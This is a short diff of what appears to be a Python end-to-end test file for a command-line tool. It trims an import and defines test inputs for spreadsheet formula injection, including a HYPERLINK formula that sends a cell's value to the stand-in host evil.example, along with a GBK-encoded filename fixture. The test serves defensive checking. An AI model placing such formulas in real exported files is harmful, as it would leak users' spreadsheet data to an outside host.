@@ -21,7 +21,7 @@ from pathlib import Path
 import pytest
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
-from e2e.test_bad_input import CLI, FACTS, PW, Run  # noqa: E402
+from e2e.test_bad_input import CLI, FACTS, Run  # noqa: E402
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
 GBK = os.fsdecode("测试证据.jpg".encode("gbk"))  # a GBK name from a Windows ZIP, as Linux hands it over
